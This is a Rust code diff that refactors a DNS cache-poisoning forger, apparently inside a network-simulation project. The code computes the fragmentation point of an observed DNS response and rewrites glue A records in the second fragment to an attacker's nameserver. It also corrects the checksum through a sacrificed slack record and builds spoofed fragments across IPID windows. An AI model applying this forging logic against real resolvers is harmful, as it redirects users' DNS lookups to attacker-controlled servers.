@@ -3,7 +3,10 @@
 //! Input: the *observed* DNS response bytes (the attacker queries the
 //! nameserver itself — the authority/additional tail is stable across
 //! queries, only the rotating answer records differ and those live in the
-//! first fragment). The forger:
+//! first fragment) and the layout of its records. [`forge_tail`] walks the
+//! bytes for that layout; the pipeline keeps the layout from the checked
+//! walk that accepted the reply, and forges from it without walking or
+//! decoding a name again. The forger:
 //!
 //! 1. computes where the response fragments at the forced MTU;
 //! 2. rewrites every glue A address that falls inside the second fragment
@@ -16,7 +19,7 @@
 use core::fmt;
 use std::net::Ipv4Addr;
 
-use bytes::Bytes;
+use bytes::{Bytes, BytesMut};
 use netsim::ipv4::{Ipv4Packet, IPV4_HEADER_LEN, PROTO_UDP};
 use netsim::udp::UDP_HEADER_LEN;
 
@@ -83,17 +86,7 @@ impl ForgedTail {
     /// Materialises the spoofed fragment for one candidate IPID, spoofing
     /// `nameserver` as the source towards `resolver`.
     pub fn fragment(&self, nameserver: Ipv4Addr, resolver: Ipv4Addr, ipid: u16) -> Ipv4Packet {
-        Ipv4Packet {
-            src: nameserver,
-            dst: resolver,
-            id: ipid,
-            ttl: 64,
-            protocol: PROTO_UDP,
-            dont_fragment: false,
-            more_fragments: false,
-            frag_offset: (self.split / 8) as u16,
-            payload: self.payload.clone(),
-        }
+        spoofed_fragment(self.split, &self.payload, nameserver, resolver, ipid)
     }
 
     /// Materialises fragments for a whole IPID window.
@@ -112,6 +105,38 @@ pub fn first_fragment_payload(mtu: u16) -> usize {
     (usize::from(mtu) - IPV4_HEADER_LEN) & !7
 }
 
+/// The spoofed fragment carrying `payload` at IP-payload offset `split`.
+fn spoofed_fragment(
+    split: usize,
+    payload: &Bytes,
+    nameserver: Ipv4Addr,
+    resolver: Ipv4Addr,
+    ipid: u16,
+) -> Ipv4Packet {
+    Ipv4Packet {
+        src: nameserver,
+        dst: resolver,
+        id: ipid,
+        ttl: 64,
+        protocol: PROTO_UDP,
+        dont_fragment: false,
+        more_fragments: false,
+        frag_offset: (split / 8) as u16,
+        payload: payload.clone(),
+    }
+}
+
+/// Where a response of `dns_len` bytes splits at `mtu`, in IP-payload
+/// bytes, if it fragments at all.
+fn split_at(dns_len: usize, mtu: u16) -> Result<usize, ForgeError> {
+    let udp_len = UDP_HEADER_LEN + dns_len;
+    let split = first_fragment_payload(mtu);
+    if udp_len <= split {
+        return Err(ForgeError::ResponseTooSmall { len: udp_len + IPV4_HEADER_LEN, mtu });
+    }
+    Ok(split)
+}
+
 /// Forges the spoofed tail from an observed response.
 ///
 /// `observed_dns` is the DNS message payload the attacker received from its
@@ -126,58 +151,120 @@ pub fn forge_tail(
     mtu: u16,
     attacker_ns: Ipv4Addr,
 ) -> Result<ForgedTail, ForgeError> {
-    let udp_len = UDP_HEADER_LEN + observed_dns.len();
-    let split = first_fragment_payload(mtu);
-    if udp_len <= split {
-        return Err(ForgeError::ResponseTooSmall { len: udp_len + IPV4_HEADER_LEN, mtu });
-    }
+    split_at(observed_dns.len(), mtu)?;
     let spans = walk_records(observed_dns).map_err(|_| ForgeError::Malformed)?;
-    // DNS byte offset d sits at IP-payload offset UDP_HEADER_LEN + d, so
-    // the second fragment starts at DNS offset `tail_start`.
-    let tail_start = split - UDP_HEADER_LEN;
-    let is_target = |s: &&RecordSpan| {
-        s.is_glue()
-            && s.rdata_len == 4
-            && s.rdata_offset >= tail_start
-            && s.rdata_offset + s.rdata_len <= observed_dns.len()
-    };
-    let targets = spans.iter().filter(is_target).count();
-    if targets == 0 {
-        return Err(ForgeError::NoGlueInTail);
+    let tail = SpanTail::forge(observed_dns, &spans, mtu, attacker_ns)?;
+    let name = |span: &RecordSpan| span.name(observed_dns).map_err(|_| ForgeError::Malformed);
+    let mut poisoned_names = Vec::with_capacity(tail.poisoned().count());
+    for span in tail.poisoned() {
+        poisoned_names.push(name(span)?);
     }
-    // Slack: the last glue record whose RDATA starts at an even IP-payload
-    // offset (fragment sums pair bytes from the even split boundary).
-    let slack = spans
-        .iter()
-        .rev()
-        .filter(is_target)
-        .find(|s| (s.rdata_offset + UDP_HEADER_LEN).is_multiple_of(2));
-    let Some(slack) = slack else {
-        return Err(ForgeError::NoSlackCandidate);
-    };
-    // Work in fragment-2 coordinates.
-    let original_tail = &observed_dns[tail_start..];
-    let mut modified_tail = original_tail.to_vec();
-    let mut poisoned = Vec::with_capacity(targets - 1);
-    for span in spans.iter().filter(is_target) {
-        if span.rdata_offset == slack.rdata_offset {
-            continue;
-        }
-        let at = span.rdata_offset - tail_start;
-        modified_tail[at..at + 4].copy_from_slice(&attacker_ns.octets());
-        poisoned.push(span.name(observed_dns).map_err(|_| ForgeError::Malformed)?);
-    }
-    // Zero the slack address; the fix writes the equalising word into its
-    // first two bytes (the remaining two stay zero).
-    let slack_in_tail = slack.rdata_offset - tail_start;
-    modified_tail[slack_in_tail..slack_in_tail + 4].fill(0);
-    fix_fragment_sum(original_tail, &mut modified_tail, slack_in_tail)?;
     Ok(ForgedTail {
-        split,
-        payload: Bytes::from(modified_tail),
-        poisoned_names: poisoned,
-        slack_name: Some(slack.name(observed_dns).map_err(|_| ForgeError::Malformed)?),
+        split: tail.split,
+        poisoned_names,
+        slack_name: Some(name(tail.slack)?),
+        payload: tail.payload,
     })
+}
+
+/// A forged tail that still refers to the record spans it was forged
+/// from: [`forge_tail`] before any owner name is decoded.
+#[derive(Debug)]
+pub(crate) struct SpanTail<'s> {
+    /// IP-payload offset where the second fragment starts.
+    split: usize,
+    /// The spoofed second-fragment payload.
+    payload: Bytes,
+    /// The glue records inside the second fragment, in wire order.
+    targets: Targets<'s>,
+    /// The target sacrificed as checksum slack.
+    slack: &'s RecordSpan,
+}
+
+/// The glue A records of `spans` whose RDATA lies inside the second
+/// fragment, which starts at DNS offset `tail_start` of a `dns_len`-byte
+/// response.
+#[derive(Debug, Clone, Copy)]
+struct Targets<'s> {
+    spans: &'s [RecordSpan],
+    tail_start: usize,
+    dns_len: usize,
+}
+
+impl<'s> Targets<'s> {
+    fn iter(self) -> impl DoubleEndedIterator<Item = &'s RecordSpan> {
+        self.spans.iter().filter(move |s| {
+            s.is_glue()
+                && s.rdata_len == 4
+                && s.rdata_offset >= self.tail_start
+                && s.rdata_offset + s.rdata_len <= self.dns_len
+        })
+    }
+
+    /// The targets other than `slack`, in wire order.
+    fn except(self, slack: &RecordSpan) -> impl Iterator<Item = &'s RecordSpan> {
+        let slack_at = slack.rdata_offset;
+        self.iter().filter(move |s| s.rdata_offset != slack_at)
+    }
+}
+
+impl<'s> SpanTail<'s> {
+    /// Forges the spoofed tail of `observed_dns` from `spans`, the layout
+    /// [`walk_records`] reports for it.
+    pub(crate) fn forge(
+        observed_dns: &[u8],
+        spans: &'s [RecordSpan],
+        mtu: u16,
+        attacker_ns: Ipv4Addr,
+    ) -> Result<Self, ForgeError> {
+        let split = split_at(observed_dns.len(), mtu)?;
+        // DNS byte offset d sits at IP-payload offset UDP_HEADER_LEN + d,
+        // so the second fragment starts at DNS offset `tail_start`.
+        let tail_start = split - UDP_HEADER_LEN;
+        let targets = Targets { spans, tail_start, dns_len: observed_dns.len() };
+        if targets.iter().next().is_none() {
+            return Err(ForgeError::NoGlueInTail);
+        }
+        // Slack: the last glue record whose RDATA starts at an even
+        // IP-payload offset (fragment sums pair bytes from the even split
+        // boundary).
+        let slack =
+            targets.iter().rev().find(|s| (s.rdata_offset + UDP_HEADER_LEN).is_multiple_of(2));
+        let Some(slack) = slack else {
+            return Err(ForgeError::NoSlackCandidate);
+        };
+        // Work in fragment-2 coordinates.
+        let original_tail = &observed_dns[tail_start..];
+        let mut modified_tail = BytesMut::with_capacity(original_tail.len());
+        modified_tail.extend_from_slice(original_tail);
+        for span in targets.except(slack) {
+            let at = span.rdata_offset - tail_start;
+            modified_tail[at..at + 4].copy_from_slice(&attacker_ns.octets());
+        }
+        // Zero the slack address; the fix writes the equalising word into
+        // its first two bytes (the remaining two stay zero).
+        let slack_in_tail = slack.rdata_offset - tail_start;
+        modified_tail[slack_in_tail..slack_in_tail + 4].fill(0);
+        fix_fragment_sum(original_tail, &mut modified_tail, slack_in_tail)?;
+        Ok(SpanTail { split, payload: modified_tail.freeze(), targets, slack })
+    }
+
+    /// The glue records redirected to the attacker, in wire order: every
+    /// target but the slack.
+    pub(crate) fn poisoned(&self) -> impl Iterator<Item = &'s RecordSpan> {
+        self.targets.except(self.slack)
+    }
+
+    /// Materialises the spoofed fragment for one candidate IPID, as
+    /// [`ForgedTail::fragment`] does.
+    pub(crate) fn fragment(
+        &self,
+        nameserver: Ipv4Addr,
+        resolver: Ipv4Addr,
+        ipid: u16,
+    ) -> Ipv4Packet {
+        spoofed_fragment(self.split, &self.payload, nameserver, resolver, ipid)
+    }
 }
 
 #[cfg(test)]
